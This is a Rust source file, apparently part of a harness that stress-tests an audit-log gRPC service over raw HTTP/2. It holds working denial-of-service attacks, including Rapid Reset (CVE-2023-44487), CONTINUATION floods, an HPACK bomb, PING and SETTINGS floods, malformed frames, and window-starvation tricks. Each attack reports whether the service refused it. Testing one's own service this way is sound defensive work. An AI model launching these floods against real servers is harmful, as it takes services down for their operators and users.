//! Attacks on HTTP/2 with floods, streams, windows and headers.

use std::io;
use std::time::{Duration, Instant};

use auditlog::grpc::pb::{ExportAuditLogsRequest, ListAuditLogsRequest};
use prost::Message;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, MAX_PAYLOAD, PING, PREFACE, PRIORITY,
    PUSH_PROMISE, RST_STREAM, Raw, SETTINGS, Seen, WINDOW_UPDATE, call, data, frame, literal, prefixed, string,
};
use super::{MARK, Target, at_once};

const CONNECTIONS: usize = 4;
/// Frames per write.
const BATCH: u32 = 500;

fn list(target: &Target) -> Vec<u8> {
    let organization_id = target.organization.clone();
    let request = ListAuditLogsRequest { organization_id, limit: Some(100), ..Default::default() };
    prefixed(&request.encode_to_vec())
}

fn describe(sent: u32, seen: &Seen) -> String {
    let Seen { goaway, is_closed, .. } = seen;
    // Rounded, so that connections with similar results are reported together.
    let thousands = sent.div_ceil(1_000);
    match (goaway, is_closed) {
        (Some(code), _) => format!("refused with GOAWAY {code} after {thousands},000 at most"),
        (None, true) => format!("closed after {thousands},000 at most"),
        (None, false) => format!("went on to the end, {thousands},000 or so"),
    }
}

/// Sends `batch(n)` for n = 0, 1, … on several connections until the service refuses it or the time is over.
async fn flood(target: Target, duration: Duration, batch: fn(&Target, u32) -> Vec<u8>) -> io::Result<String> {
    at_once(CONNECTIONS, |_| {
        let target = target.clone();
        async move {
            let mut raw = Raw::open(&target, &[]).await?;
            let begun = Instant::now();
            let mut batches = 0;
            while begun.elapsed() < duration && !raw.seen().is_closed {
                if raw.send(&batch(&target, batches)).await.is_err() {
                    break;
                }
                batches += 1;
                tokio::task::yield_now().await;
            }
            let seen = raw.ends(usize::MAX, Duration::from_millis(200)).await;
            Ok(describe(batches * BATCH, &seen))
        }
    })
    .await
}

fn repeated(one: impl Fn(&mut Vec<u8>)) -> Vec<u8> {
    let mut bytes = Vec::new();
    (0..BATCH).for_each(|_| one(&mut bytes));
    bytes
}

/// Frames that violate the protocol, each on its own connection.
pub async fn broken_frames(target: Target, _: Duration) -> io::Result<String> {
    let block = call(&target, "ListAuditLogs");
    let of = |kind, flags, stream, payload: &[u8]| {
        let mut bytes = Vec::new();
        frame(kind, flags, stream, payload, &mut bytes);
        bytes
    };
    let all = [
        of(SETTINGS, 0, 0, &[0; 5]),
        of(SETTINGS, 1, 0, &[0; 6]),
        of(SETTINGS, 0, 1, &[]),
        of(SETTINGS, 0, 0, &[0, 4, 255, 255, 255, 255]),
        of(SETTINGS, 0, 0, &[0, 5, 0, 0, 0, 1]),
        of(HEADERS, END_HEADERS, 0, &block),
        of(HEADERS, END_HEADERS, 2, &block),
        of(HEADERS, END_HEADERS, 1, &[0xff; 100]),
        of(HEADERS, END_HEADERS | 8, 1, &[255, 0]),
        of(DATA, 0, 0, b"a"),
        of(DATA, 0, 7, b"a"),
        of(CONTINUATION, END_HEADERS, 1, &block),
        of(PUSH_PROMISE, END_HEADERS, 1, &block),
        of(PING, 0, 0, &[0; 7]),
        of(PING, 0, 3, &[0; 8]),
        of(RST_STREAM, 0, 9, &[0; 4]),
        of(GOAWAY, 0, 0, &[0; 8]),
        of(WINDOW_UPDATE, 0, 0, &[0; 4]),
        of(PRIORITY, 0, 1, &[0, 0, 0, 1, 0]),
        [&[0xff, 0xff, 0xff, DATA, 0, 0, 0, 0, 1], [0; 1_000].as_slice()].concat(),
        PREFACE.to_vec(),
    ];
    at_once(all.len(), |place| {
        let (target, bytes) = (target.clone(), all[place].clone());
        async move {
            let mut raw = Raw::open(&target, &[]).await?;
            raw.send(&bytes).await?;
            let seen = raw.ends(1, Duration::from_secs(2)).await;
            Ok(format!("GOAWAY {:?}, closed: {}, reset: {}", seen.goaway, seen.is_closed, seen.reset))
        }
    })
    .await
}

/// Requests that are cancelled at once: CVE-2023-44487.
pub async fn rapid_reset(target: Target, duration: Duration) -> io::Result<String> {
    flood(target, duration, |target, batch| {
        let (block, message) = (call(target, "ListAuditLogs"), list(target));
        let mut bytes = Vec::new();
        for place in 0..BATCH {
            let stream = 2 * (batch * BATCH + place) + 1;
            frame(HEADERS, END_HEADERS, stream, &block, &mut bytes);
            data(stream, &message, &mut bytes);
            frame(RST_STREAM, 0, stream, &8u32.to_be_bytes(), &mut bytes);
        }
        bytes
    })
    .await
}

pub async fn pings(target: Target, duration: Duration) -> io::Result<String> {
    flood(target, duration, |_, _| repeated(|bytes| frame(PING, 0, 0, &[0; 8], bytes))).await
}

/// Pings from a client that never reads from the socket.
pub async fn unread_ping_acks(target: Target, duration: Duration) -> io::Result<String> {
    at_once(CONNECTIONS, |_| {
        let target = target.clone();
        async move {
            let mut raw = Raw::open_unread(&target, &[]).await?;
            let begun = Instant::now();
            let batch = repeated(|bytes| frame(PING, 0, 0, &[0; 8], bytes));
            while begun.elapsed() < duration {
                raw.send(&batch).await?;
            }
            Ok("went on to the end".to_owned())
        }
    })
    .await
}

pub async fn settings(target: Target, duration: Duration) -> io::Result<String> {
    flood(target, duration, |_, _| repeated(|bytes| frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0], bytes))).await
}

pub async fn priorities(target: Target, duration: Duration) -> io::Result<String> {
    flood(target, duration, |_, _| repeated(|bytes| frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1], bytes))).await
}

pub async fn unknown_frames(target: Target, duration: Duration) -> io::Result<String> {
    flood(target, duration, |_, _| repeated(|bytes| frame(0x42, 0, 0, MARK.as_bytes(), bytes))).await
}

/// Empty DATA frames on a stream that waits for a message.
pub async fn empty_data(target: Target, duration: Duration) -> io::Result<String> {
    flood(target, duration, |target, batch| {
        let mut bytes = Vec::new();
        if batch == 0 {
            frame(HEADERS, END_HEADERS, 1, &call(target, "WriteAuditLogs"), &mut bytes);
        }
        bytes.extend(repeated(|bytes| frame(DATA, 0, 1, b"", bytes)));
        bytes
    })
    .await
}

/// A header block that never ends, in empty CONTINUATION frames.
pub async fn empty_continuations(target: Target, duration: Duration) -> io::Result<String> {
    flood(target, duration, |target, batch| {
        let mut bytes = Vec::new();
        if batch == 0 {
            frame(HEADERS, 0, 1, &call(target, "WriteAuditLogs"), &mut bytes);
        }
        bytes.extend(repeated(|bytes| frame(CONTINUATION, 0, 1, b"", bytes)));
        bytes
    })
    .await
}

/// A header block that never ends: CVE-2024-27316 and similar.
pub async fn continuations(target: Target, duration: Duration) -> io::Result<String> {
    flood(target, duration, |target, batch| {
        let (mut bytes, mut header) = (Vec::new(), Vec::new());
        literal("x-more", MARK.repeat(50).as_bytes(), &mut header);
        if batch == 0 {
            frame(HEADERS, 0, 1, &call(target, "WriteAuditLogs"), &mut bytes);
        }
        bytes.extend(repeated(|bytes| frame(CONTINUATION, 0, 1, &header, bytes)));
        bytes
    })
    .await
}

/// A header of 4,000 bytes that enters the HPACK table once and is then referenced thousands of times, a byte each.
pub async fn hpack_bomb(target: Target, duration: Duration) -> io::Result<String> {
    flood(target, duration, |target, batch| {
        let mut block = call(target, "ListAuditLogs");
        block.push(0x40);
        string(b"x-bomb", &mut block);
        string(MARK.repeat(199).as_bytes(), &mut block);
        block.resize(MAX_PAYLOAD, 0xbe);
        let (mut bytes, stream) = (Vec::new(), 2 * batch + 1);
        frame(HEADERS, 0, stream, &block, &mut bytes);
        for _ in 0..3 {
            frame(CONTINUATION, 0, stream, &[0xbe; MAX_PAYLOAD], &mut bytes);
        }
        frame(CONTINUATION, END_HEADERS, stream, b"", &mut bytes);
        data(stream, &list(target), &mut bytes);
        bytes
    })
    .await
}

/// WINDOW_UPDATE frames with an increment of zero.
pub async fn zero_window_updates(target: Target, duration: Duration) -> io::Result<String> {
    flood(target, duration, |target, batch| {
        let mut bytes = Vec::new();
        if batch == 0 {
            frame(HEADERS, END_HEADERS, 1, &call(target, "WriteAuditLogs"), &mut bytes);
        }
        bytes.extend(repeated(|bytes| frame(WINDOW_UPDATE, 0, 1, &[0; 4], bytes)));
        bytes
    })
    .await
}

pub async fn window_overflow(target: Target, duration: Duration) -> io::Result<String> {
    flood(target, duration, |_, _| repeated(|bytes| frame(WINDOW_UPDATE, 0, 0, &[0x7f, 255, 255, 255], bytes))).await
}

/// Opens `streams` calls of `method` with `message` on each of `connections` and holds them. `windows` is the initial
/// window size.
async fn held(
    target: Target,
    (connections, streams): (usize, u32),
    duration: Duration,
    (method, message): (&'static str, Vec<u8>),
    windows: u32,
) -> io::Result<String> {
    at_once(connections, |_| {
        let (target, message) = (target.clone(), message.clone());
        async move {
            let mut raw = Raw::open(&target, &[(INITIAL_WINDOW_SIZE, windows)]).await?;
            let block = call(&target, method);
            for place in 0..streams {
                let mut bytes = Vec::new();
                frame(HEADERS, END_HEADERS, 2 * place + 1, &block, &mut bytes);
                if !message.is_empty() {
                    data(2 * place + 1, &message, &mut bytes);
                }
                if raw.send(&bytes).await.is_err() {
                    break;
                }
            }
            tokio::time::sleep(duration).await;
            let Seen { ended, reset, over: _, goaway, is_closed } = raw.seen();
            let hundreds = |count: usize| count.div_ceil(100) * 100;
            let (ended, reset) = (hundreds(ended), hundreds(reset));
            Ok(format!("{streams} asked, some {ended} answered, {reset} reset, GOAWAY {goaway:?}, closed: {is_closed}"))
        }
    })
    .await
}

/// Far more calls than the stream limit, all without their message.
pub async fn open_streams(target: Target, duration: Duration) -> io::Result<String> {
    held(target, (CONNECTIONS, 3_000), duration, ("ListAuditLogs", Vec::new()), 65_535).await
}

/// Requests lists and never opens the window for an answer.
pub async fn closed_windows(target: Target, duration: Duration) -> io::Result<String> {
    let message = list(&target);
    held(target, (8, 250), duration, ("ListAuditLogs", message), 0).await
}

/// Like [`closed_windows`] with exports, which are much longer.
pub async fn closed_windows_of_exports(target: Target, duration: Duration) -> io::Result<String> {
    let request = ExportAuditLogsRequest { organization_id: target.organization.clone(), ..Default::default() };
    let message = prefixed(&request.encode_to_vec());
    held(target, (8, 250), duration, ("ExportAuditLogs", message), 0).await
}

/// Requests lists and opens the window one byte at a time.
pub async fn dribbled_windows(target: Target, duration: Duration) -> io::Result<String> {
    at_once(CONNECTIONS, |_| {
        let target = target.clone();
        async move {
            let mut raw = Raw::open(&target, &[(INITIAL_WINDOW_SIZE, 1)]).await?;
            let (block, message) = (call(&target, "ListAuditLogs"), list(&target));
            let mut bytes = Vec::new();
            let streams = || (0..200).map(|place| 2 * place + 1);
            for stream in streams() {
                frame(HEADERS, END_HEADERS, stream, &block, &mut bytes);
                data(stream, &message, &mut bytes);
            }
            raw.send(&bytes).await?;
            let begun = Instant::now();
            while begun.elapsed() < duration && !raw.seen().is_closed {
                let mut bytes = Vec::new();
                streams().for_each(|stream| frame(WINDOW_UPDATE, 0, stream, &1u32.to_be_bytes(), &mut bytes));
                if raw.send(&bytes).await.is_err() {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
            let Seen { goaway, is_closed, .. } = raw.seen();
            Ok(format!("GOAWAY {goaway:?}, closed: {is_closed}"))
        }
    })
    .await
}

/// Requests lists with a maximum window and never reads from the socket.
pub async fn unread_lists(target: Target, duration: Duration) -> io::Result<String> {
    at_once(16, |_| {
        let target = target.clone();
        async move {
            let mut raw = Raw::open_unread(&target, &[(INITIAL_WINDOW_SIZE, 0x7fff_ffff)]).await?;
            let (block, message) = (call(&target, "ListAuditLogs"), list(&target));
            let mut bytes = Vec::new();
            frame(WINDOW_UPDATE, 0, 0, &0x7fff_0000u32.to_be_bytes(), &mut bytes);
            for place in 0..250 {
                frame(HEADERS, END_HEADERS, 2 * place + 1, &block, &mut bytes);
                data(2 * place + 1, &message, &mut bytes);
            }
            raw.send(&bytes).await?;
            tokio::time::sleep(duration).await;
            Ok("asked for 250 lists".to_owned())
        }
    })
    .await
}

/// Megabytes of metadata: one long value, thousands of names, or one long name.
pub async fn huge_metadata(target: Target, _: Duration) -> io::Result<String> {
    at_once(12, |place| {
        let target = target.clone();
        async move {
            let mut block = call(&target, "ListAuditLogs");
            match place % 3 {
                0 => literal("x-large", MARK.repeat(100_000).as_bytes(), &mut block),
                1 => (0..20_000).for_each(|name| literal(&format!("x-{name}"), MARK.as_bytes(), &mut block)),
                _ => literal(&"n".repeat(200_000), b"", &mut block),
            }
            let mut raw = Raw::open(&target, &[]).await?;
            let mut pieces = block.chunks(MAX_PAYLOAD).peekable();
            let mut kind = HEADERS;
            while let Some(piece) = pieces.next() {
                let mut bytes = Vec::new();
                let flags = if pieces.peek().is_none() { END_HEADERS } else { 0 };
                frame(kind, flags, 1, piece, &mut bytes);
                kind = CONTINUATION;
                if raw.send(&bytes).await.is_err() {
                    break;
                }
            }
            let mut bytes = Vec::new();
            data(1, &list(&target), &mut bytes);
            // The service may have refused the call already.
            let _ = raw.send(&bytes).await;
            let Seen { ended, reset, over: _, goaway, is_closed } = raw.ends(1, Duration::from_secs(5)).await;
            Ok(format!("answered: {ended}, reset: {reset}, GOAWAY {goaway:?}, closed: {is_closed}"))
        }
    })
    .await
}
